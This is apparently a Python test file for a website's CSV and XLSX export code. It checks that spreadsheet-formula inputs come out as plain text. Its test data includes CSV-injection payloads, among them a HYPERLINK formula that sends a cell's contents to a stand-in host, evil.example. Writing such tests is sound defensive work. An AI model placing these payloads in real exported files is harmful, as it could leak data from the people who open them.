"""Every CSV and XLSX the site writes goes through core.exports: no cell is ever a formula."""

import csv
import io
import zipfile

import openpyxl
import tablib

from core.exports import export_bytes

HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"Bấm")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "Lan\x0bAnh"]


def dataset():
    data = tablib.Dataset(headers=["Tên", "Số"], title="Danh sách")
    for value in HOSTILE:
        data.append([value, -5])
    return data


def test_csv_text_that_would_run_gets_an_apostrophe_and_numbers_stay_numbers():
    rows = list(csv.reader(io.StringIO(export_bytes(dataset(), "csv").decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE[:6]] + ["Lan\x0bAnh"]
    assert {row[1] for row in rows[1:]} == {"-5"}


def test_xlsx_text_is_text_and_no_cell_is_a_formula():
    content = export_bytes(dataset(), "xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in b"".join(archive.read(name) for name in archive.namelist() if "worksheets" in name)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # XML reads a carriage return back as a line feed; a control character a workbook cannot hold goes.
    expected = [value.replace("\r", "\n") for value in HOSTILE[:6]] + ["LanAnh"]
    assert [cell.value for cell in cells] == expected
    assert {cell.data_type for cell in cells} == {"s"}
    assert sheet.title == "Danh sách" and sheet["B2"].value == -5
